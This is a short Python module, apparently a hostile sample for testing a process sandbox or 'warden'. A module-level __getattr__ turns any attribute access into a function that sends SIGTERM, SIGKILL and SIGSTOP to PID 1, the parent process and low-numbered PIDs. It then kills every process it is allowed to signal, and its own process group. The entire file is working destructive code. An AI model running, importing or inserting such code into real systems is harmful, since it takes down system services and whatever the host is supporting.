"""Signals every process it can name: all, its group, the warden, its parent, itself."""

import os
import signal


def __getattr__(name):
    def run(*args):
        for pid in (1, os.getppid(), 2, 3, 4, 5):
            for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
                try:
                    os.kill(pid, number)
                except OSError as error:
                    print(pid, number, error)
        os.kill(-1, signal.SIGKILL)
        os.kill(0, signal.SIGKILL)

    return run
